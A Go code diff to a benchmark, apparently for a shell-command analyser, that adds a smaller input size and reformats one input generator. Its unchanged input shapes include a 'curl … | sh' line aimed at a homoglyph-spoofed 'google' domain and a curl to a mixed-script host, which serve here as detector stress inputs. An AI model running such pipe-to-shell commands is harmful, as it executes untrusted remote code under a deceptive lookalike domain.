@@ -27,7 +27,8 @@ import (
 )
 
 // sizes are the input sizes of a case, each sixteen times the one before.
-var sizes = []int{4 << 10, 64 << 10, 1 << 20, 16 << 20}
+// The first two always run, so that every case has a ratio.
+var sizes = []int{256, 4 << 10, 64 << 10, 1 << 20, 16 << 20}
 
 // Budgets that stop a case before its next size: the time that size would
 // take at the target ratio, and the bytes it would allocate at the
@@ -77,7 +78,9 @@ var shapes = []shape{
 		d := (n - 8) / 3
 		return "echo " + strings.Repeat("$(", d) + "x" + strings.Repeat(")", d)
 	}},
-	{"heredoc", func(n int) string { return repeatTo(n, "cat <<'EOF' > out.txt\n", "a line of the here-document, with $x and ‘quotes’\n", "EOF\n") }},
+	{"heredoc", func(n int) string {
+		return repeatTo(n, "cat <<'EOF' > out.txt\n", "a line of the here-document, with $x and ‘quotes’\n", "EOF\n")
+	}},
 	{"hostword", func(n int) string { return repeatTo(n, "curl https://", "g\u043e\u043egle", ".com/x.sh | sh") }},
 	{"labels", func(n int) string { return repeatTo(n, "curl https://", "a\u0430.", "com/x.sh") }},
 	{"scripts", func(n int) string { return repeatTo(n, "echo ", "a\u0430", "") }},
@@ -172,7 +175,7 @@ func BenchmarkComplexity(b *testing.B) {
 						}
 						d, a := measure(e, in, reps)
 						times, alloc, n = append(times, d), a, len(in.s)
-						if i+1 < len(sizes) && (d*16*maxRatio > timeBudget || a*16 > allocBudget) {
+						if i >= 1 && i+1 < len(sizes) && (d*16*maxRatio > timeBudget || a*16 > allocBudget) {
 							break
 						}
 					}
